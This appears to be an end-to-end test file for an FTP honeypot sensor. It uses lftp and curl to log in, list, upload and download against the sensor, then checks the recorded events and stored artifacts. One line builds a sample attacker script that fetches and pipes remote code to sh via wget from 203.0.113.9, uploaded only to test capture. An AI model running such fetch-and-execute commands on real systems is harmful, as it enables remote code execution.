// End to end with the real clients: lftp and curl list, upload and download against the FTP sensor; the events
// are checked field by field in the store and each upload's artifact by its SHA-256.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import { requirePrograms } from '../helpers/programs.js';
import { run } from '../helpers/run.js';
import { startTestApp, type TestApp } from '../helpers/test-app.js';
import { commandsOf, findSession, sha256 } from './ftp-helpers.js';

let t: TestApp;
let port: number;
let work: string;

before(async () => {
  t = await startTestApp({ ftp: { enabled: true, delay_failed_login_ms: 0, max_upload_bytes: 100_000 } });
  port = t.app.port('ftp');
  work = mkdtempSync(join(tmpdir(), 'pn-ftp-client-'));
});
after(async () => {
  await t.cleanup();
  rmSync(work, { recursive: true, force: true });
});

function uploadOf(events: Awaited<ReturnType<typeof findSession>>) {
  const up = events.find((e) => e.eventid === 'session.file_upload');
  assert.ok(up?.eventid === 'session.file_upload', 'a session.file_upload event');
  return up;
}

test('lftp: ls, put and get in passive mode, a listing in active mode (PORT)', async (ctx) => {
  if (!requirePrograms(ctx, 'lftp')) return;
  const payload = randomBytes(20_000);
  writeFileSync(join(work, 'tool.bin'), payload);
  const r = await run('lftp', [
    '-u', 'admin,admin', '-p', String(port),
    '-e', `set ftp:passive-mode on; set net:max-retries 1; ls; put ${join(work, 'tool.bin')} -o tool.bin; get scripts/backup.sh -o ${join(work, 'backup.sh')}; cls -1; bye`,
    '127.0.0.1',
  ]);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /^drwxr-xr-x    2 1001     1001         4096 Sep 28  2025 backups\r?$/m);
  assert.match(r.stdout, /^-rw-r--r--    1 1001     1001           93 Mar 04  2025 notes\.txt\r?$/m);
  assert.match(r.stdout, /^tool\.bin$/m, 'the upload shows in a later listing of the same session');
  assert.match(readFileSync(join(work, 'backup.sh'), 'utf8'), /^#!\/bin\/sh\n# nightly dump/);

  const active = await run('lftp', ['-u', 'admin,admin', '-p', String(port), '-e', 'set ftp:passive-mode off; set ftp:prefer-epsv no; cls -1 backups; bye', '127.0.0.1']);
  assert.equal(active.code, 0, active.stderr);
  assert.equal(active.stdout, 'backups/db_prod_2025-09-27.sql.gz\nbackups/db_prod_2025-09-28.sql.gz\nbackups/www_2025-09-28.tar.gz\n');
  const act = await findSession(t, (e) => commandsOf(e).some((c) => /^PORT 127,0,0,1,\d+,\d+$/.test(c)));
  const actCmds = commandsOf(act);
  assert.ok(actCmds.indexOf('CWD /backups') < actCmds.indexOf('LIST') && actCmds.indexOf('CWD /backups') >= 0, actCmds.join(', '));

  const ev = await findSession(t, (e) => commandsOf(e).includes('STOR tool.bin'));
  assert.equal(ev[0]?.eventid, 'session.connect');
  const ok = ev.find((e) => e.eventid === 'login.success');
  assert.ok(ok?.eventid === 'login.success');
  assert.deepEqual([ok.username, ok.password, ok.method], ['admin', 'admin', 'ftp']);
  const cmds = commandsOf(ev);
  for (const c of ['USER admin', 'PASS', 'PASV', 'LIST', 'STOR tool.bin', 'RETR scripts/backup.sh', 'QUIT']) assert.ok(cmds.includes(c), `${c} in ${cmds.join(', ')}`);
  const up = uploadOf(ev);
  assert.equal(up.filename, 'tool.bin');
  assert.equal(up.size, payload.length);
  assert.equal(up.shasum, sha256(payload));
  assert.equal(up.truncated, false);
  assert.equal(up.duplicate, false);
  assert.deepEqual(readFileSync(join(t.dir, 'artifacts', up.shasum)), payload);
  const end = ev.at(-1);
  assert.ok(end?.eventid === 'session.closed' && end.reason === 'client');
});

test('curl: listing, upload with -T, download of a generated archive, active mode with -P', async (ctx) => {
  if (!requirePrograms(ctx, 'curl')) return;
  const base = `ftp://admin:admin@127.0.0.1:${port}`;
  const list = await run('curl', ['-sS', `${base}/backups/`]);
  assert.equal(list.code, 0, list.stderr);
  assert.match(list.stdout, /^-rw-r--r--    1 1001     1001      6209331 Sep 28  2025 www_2025-09-28\.tar\.gz\r?$/m);

  const payload = Buffer.from(`#!/bin/sh\nwget http://203.0.113.9/x -O- | sh # ${Date.now()}\n`);
  writeFileSync(join(work, 'x.sh'), payload);
  const put = await run('curl', ['-sS', '-T', join(work, 'x.sh'), `${base}/scripts/x.sh`]);
  assert.equal(put.code, 0, put.stderr);

  const out = join(work, 'db.sql.gz');
  const get = await run('curl', ['-sS', '-o', out, `${base}/backups/db_prod_2025-09-27.sql.gz`]);
  assert.equal(get.code, 0, get.stderr);
  const got = readFileSync(out);
  assert.equal(got.length, 1_843_217);
  assert.deepEqual([...got.subarray(0, 4)], [0x1f, 0x8b, 0x08, 0x00], 'gzip magic');
  const part = join(work, 'part.bin');
  const again = await run('curl', ['-sS', '-r', '1000-', '-o', part, `${base}/backups/db_prod_2025-09-27.sql.gz`]);
  assert.equal(again.code, 0, again.stderr);
  assert.deepEqual(readFileSync(part), got.subarray(1000), 'REST 1000 resumes the same bytes');

  const active = await run('curl', ['-sS', '-P', '127.0.0.1', `${base}/scripts/`]);
  assert.equal(active.code, 0, active.stderr);
  assert.match(active.stdout, /backup\.sh/);

  const upSession = await findSession(t, (e) => commandsOf(e).includes('STOR x.sh'));
  const up = uploadOf(upSession);
  assert.deepEqual(
    { filename: up.filename, size: up.size, shasum: up.shasum, truncated: up.truncated, duplicate: up.duplicate },
    { filename: 'x.sh', size: payload.length, shasum: sha256(payload), truncated: false, duplicate: false },
  );
  assert.deepEqual(readFileSync(join(t.dir, 'artifacts', up.shasum)), payload);
  assert.ok(commandsOf(upSession).includes('CWD scripts'));
  const dl = await findSession(t, (e) => commandsOf(e).includes('RETR db_prod_2025-09-27.sql.gz'));
  assert.ok(commandsOf(dl).includes('EPSV'));
  const act = await findSession(t, (e) => commandsOf(e).some((c) => c.startsWith('EPRT |1|127.0.0.1|')));
  assert.ok(commandsOf(act).includes('LIST'));
});

test('curl: an upload over max_upload_bytes is cut there and recorded as truncated', async (ctx) => {
  if (!requirePrograms(ctx, 'curl')) return;
  const payload = randomBytes(300_000);
  writeFileSync(join(work, 'big.bin'), payload);
  const r = await run('curl', ['-sS', '-T', join(work, 'big.bin'), `ftp://admin:admin@127.0.0.1:${port}/big.bin`]);
  assert.notEqual(r.code, 0, 'the client sees the upload fail');
  const up = uploadOf(await findSession(t, (e) => commandsOf(e).includes('STOR big.bin')));
  assert.equal(up.truncated, true);
  assert.equal(up.size, 100_000);
  assert.equal(up.shasum, sha256(payload.subarray(0, 100_000)));
  assert.deepEqual(readFileSync(join(t.dir, 'artifacts', up.shasum)), payload.subarray(0, 100_000));
});

test('curl: a wrong password is login.failed; anonymous is refused by default', async (ctx) => {
  if (!requirePrograms(ctx, 'curl')) return;
  const bad = await run('curl', ['-sS', `ftp://oracle:0racle!@127.0.0.1:${port}/`]);
  assert.equal(bad.code, 67, `curl reports a denied login: ${bad.stderr}`);
  const anon = await run('curl', ['-sS', `ftp://127.0.0.1:${port}/`]);
  assert.equal(anon.code, 67, `anonymous_enable defaults to off: ${anon.stderr}`);
  const ev = await findSession(t, (e) => e.some((x) => x.eventid === 'login.failed' && x.username === 'oracle'));
  const f = ev.find((e) => e.eventid === 'login.failed');
  assert.ok(f?.eventid === 'login.failed');
  assert.deepEqual([f.username, f.password, f.method], ['oracle', '0racle!', 'ftp']);
  const a = (await findSession(t, (e) => e.some((x) => x.eventid === 'login.failed' && x.username === 'anonymous'))).find((e) => e.eventid === 'login.failed');
  assert.ok(a?.eventid === 'login.failed');
  assert.equal(a.password, 'ftp@example.com', 'the anonymous password is kept as given');
});

test('anonymous_enable: anonymous logs in with its password kept, can read, cannot write', async (ctx) => {
  if (!requirePrograms(ctx, 'curl')) return;
  const anonApp = await startTestApp({ ftp: { enabled: true, anonymous_enable: true } });
  try {
    const p = anonApp.app.port('ftp');
    const ls = await run('curl', ['-sS', '--user', 'anonymous:mozilla@example.com', `ftp://127.0.0.1:${p}/`]);
    assert.equal(ls.code, 0, ls.stderr);
    assert.match(ls.stdout, /notes\.txt/);
    writeFileSync(join(work, 'anon.txt'), 'hi');
    const put = await run('curl', ['-sS', '-T', join(work, 'anon.txt'), `ftp://127.0.0.1:${p}/anon.txt`]);
    assert.equal(put.code, 25, `STOR refused: ${put.stderr}`);
    const ev = await findSession(anonApp, (e) => e.some((x) => x.eventid === 'login.success' && x.password === 'mozilla@example.com'));
    const s = ev.find((e) => e.eventid === 'login.success');
    assert.ok(s?.eventid === 'login.success');
    assert.deepEqual([s.username, s.method], ['anonymous', 'ftp']);
    await findSession(anonApp, (e) => commandsOf(e).includes('STOR anon.txt') && !e.some((x) => x.eventid === 'session.file_upload'));
  } finally {
    await anonApp.cleanup();
  }
});
